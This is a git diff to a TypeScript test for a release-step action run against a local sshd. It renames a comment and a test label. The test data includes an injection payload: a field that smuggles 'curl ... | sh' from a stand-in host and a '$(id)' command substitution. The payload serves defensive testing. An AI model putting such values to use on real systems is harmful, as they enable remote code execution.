@@ -1,6 +1,6 @@
 // The bundled release-step action run as a runner runs it (main, then post), against a real
 // sshd on 127.0.0.1 whose sessions use the stand-in container CLI, and the engine stand-in.
-// Field cases F02(b), F03, F04, F05, F06, F07, F08, F11; the key never outlives the job.
+// Failure cases F02(b), F03, F04, F05, F06, F07, F08, F11; the key never outlives the job.
 
 import { existsSync, readFileSync } from "node:fs";
 import { createServer, type Socket } from "node:net";
@@ -106,7 +106,7 @@ describe("release-step action, bundled, as a runner runs it", () => {
 
   it.each([
     [
-      "the field case payload",
+      "an injection payload (tool with a shell command, step_run_id with $(id), foreign callback)",
       {
         tool: 'deploy"; curl -s https://x.invalid/p | sh; echo "',
         step_run_id: "sr_1$(id)",
